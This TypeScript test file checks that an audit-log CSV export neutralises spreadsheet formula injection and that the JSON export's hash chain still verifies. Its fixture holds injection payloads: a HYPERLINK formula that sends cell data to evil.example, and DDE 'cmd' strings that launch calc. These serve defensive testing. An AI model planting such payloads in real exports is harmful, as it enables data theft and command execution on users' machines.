/** The CSV export neutralises formulas (OWASP) and still round-trips; the JSON export and its hashes are untouched. */
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { GENESIS_HASH, entryHash, verifyExport } from '../store/audit-chain';
import type { AuditRecord } from '../store/db';
import { CSV_COLUMNS, csvRow, formatChunk, parseCsv, toAuditRow } from './audit-export';
import type { AuditRow } from './messages';
import { auditRowSchema } from './replies';

function entry(seq: number, fields: Partial<AuditRecord>, prevHash: string): AuditRecord {
  const base: Omit<AuditRecord, 'seq' | 'prevHash' | 'hash'> = {
    at: 1_800_000_000_000 + seq,
    actionId: `act_${seq}`,
    type: 'save',
    bucket: 'saves',
    paramsSummary: 'post=urn:li:activity:1',
    idempotencyKey: `k-${seq}`,
    requestedBy: null,
    startedAt: 1_800_000_000_000,
    finishedAt: 1_800_000_000_000 + seq,
    status: 'succeeded',
    code: null,
    message: 'ok',
    httpStatus: 200,
    mutated: true,
    linkedinRequests: 1,
    account: null,
    ...fields,
  };
  return { ...base, seq, prevHash, hash: entryHash(prevHash, base) };
}

// What a hostile backend could put in the fields it controls.
const hostile: Partial<AuditRecord> = {
  actionId: '=HYPERLINK("https://evil.example/?"&A1,"click")',
  type: '+cmd|" /C calc"!A0',
  idempotencyKey: '-2+3',
  requestedBy: '@SUM(1+1)*cmd|" /C calc"!A0',
  paramsSummary: '\t=1+1',
  message: '\r=1+1',
  account: "'=already quoted",
};

describe('CSV export: formula injection', () => {
  const first = entry(1, hostile, GENESIS_HASH);
  const second = entry(
    2,
    { message: 'a "quoted", multi-line\r\nmessage', requestedBy: { principal: '=x' } },
    first.hash ?? '',
  );
  const csv = formatChunk([first, second], 'csv');

  it('no cell starts with =, +, -, @, tab or CR: each such cell is quoted and starts with an apostrophe', () => {
    const lines = csv.split('\r\n');
    for (const cell of [
      '"\'=HYPERLINK(',
      '"\'+cmd|',
      '"\'-2+3"',
      '"\'@SUM(',
      '"\'\t=1+1"',
      '"\'\r=1+1"',
      '"\'\'=already quoted"',
    ]) {
      expect(lines[0]).toContain(`,${cell}`);
    }
    // Every cell of the parsed file, as a spreadsheet sees it before stripping the guard.
    const rawCells = csv.match(/(?:^|,)("(?:[^"]|"")*"|[^,\r\n]*)/g) ?? [];
    for (const raw of rawCells) expect(raw.replace(/^,/, '').replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('parsing gives back exactly the stored texts', () => {
    const [row] = parseCsv(csv);
    const at = (c: (typeof CSV_COLUMNS)[number]) => row?.[CSV_COLUMNS.indexOf(c)];
    expect(at('actionId')).toBe(hostile.actionId);
    expect(at('type')).toBe(hostile.type);
    expect(at('idempotencyKey')).toBe(hostile.idempotencyKey);
    expect(at('requestedBy')).toBe(hostile.requestedBy);
    expect(at('paramsSummary')).toBe(hostile.paramsSummary);
    expect(at('message')).toBe(hostile.message);
    expect(at('account')).toBe(hostile.account);
    expect(parseCsv(csv)[1]?.[CSV_COLUMNS.indexOf('message')]).toBe('a "quoted", multi-line\r\nmessage');
  });

  it('the JSON export is unchanged and verifies exactly (hashes are over the stored entries)', () => {
    const rows = z.array(auditRowSchema).parse(JSON.parse(`[${formatChunk([first, second], 'json')}]`));
    expect(rows[0]?.actionId).toBe(hostile.actionId);
    expect(verifyExport(rows)).toMatchObject({ altered: null, complete: true, gaps: [] });
  });
});

describe('CSV export: each row is the columns in CSV_COLUMNS order', () => {
  // The cell rule as first written (one generic function mapped over the column names): the faster csvRow must match it.
  const reference = (row: AuditRow): string => {
    const values: Record<string, unknown> = {
      ...row,
      at: new Date(row.at).toISOString(),
      startedAt: new Date(row.startedAt).toISOString(),
      finishedAt: new Date(row.finishedAt).toISOString(),
    };
    const cell = (value: unknown): string => {
      const stored =
        value === null || value === undefined ? '' : typeof value === 'object' ? JSON.stringify(value) : String(value);
      const text = /^[=+\-@\t\r']/.test(stored) ? `'${stored}` : stored;
      return text !== stored || /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
    };
    return `${CSV_COLUMNS.map((c) => cell(values[c])).join(',')}\r\n`;
  };

  it('matches the generic rule on hostile, quoted, negative and empty values', () => {
    const first = entry(1, hostile, GENESIS_HASH);
    const rows = [
      first,
      entry(2, { message: 'a "quoted", multi-line\r\nmessage', requestedBy: { p: '=x' } }, first.hash ?? ''),
      entry(3, { httpStatus: null, linkedinRequests: -1, message: '', code: 'not_found', mutated: false }, 'x'),
      entry(4, { at: -62198755200000, paramsSummary: "'", account: '' }, 'y'),
    ];
    for (const r of rows) expect(csvRow(toAuditRow(r))).toBe(reference(toAuditRow(r)));
  });
});
